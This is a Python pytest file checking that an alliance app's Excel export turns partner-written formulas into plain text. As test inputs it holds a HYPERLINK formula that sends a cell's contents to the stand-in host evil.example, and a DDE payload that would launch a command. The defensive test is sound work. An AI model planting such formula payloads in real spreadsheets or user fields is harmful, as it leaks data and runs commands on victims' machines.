"""A partner's text never runs in the coordinator's spreadsheet: a task title written as an
Excel formula arrives in the alliance export as plain text, read back with openpyxl from the
file the coordinator downloads."""

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.alliance.teams import Small, make_small, signed_in

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Grading record")'


@pytest.fixture
def small(network: dict[str, Any], db: None) -> Small:
    return make_small(network)


def test_a_task_title_written_as_a_formula_is_text_in_the_coordinators_export(small: Small):
    added = signed_in(small.grower).post(
        f"/alliances/tanga-oranges/cycles/1/plans/{small.growers.pk}/tasks/new/",
        {"title": LEAK, "owner": small.grower.person.pk, "due": "2003-05-20",
         "deliverable": "@SUM(1+1)*cmd|' /C calc'!A0"})
    assert added.status_code == 302

    export = signed_in(small.coordinator).get("/alliances/tanga-oranges/export.xlsx")
    book = load_workbook(io.BytesIO(export.content))

    [title] = [cell for row in book["Tasks"].iter_rows() for cell in row
               if "evil.example" in str(cell.value)]
    assert title.data_type == "s"
    assert title.value == "'" + LEAK
    assert [c.value for c in book["Tasks"][2]][5] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    formulas = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert all(str(f).startswith("=SUM(") for f in formulas)  # only our own totals
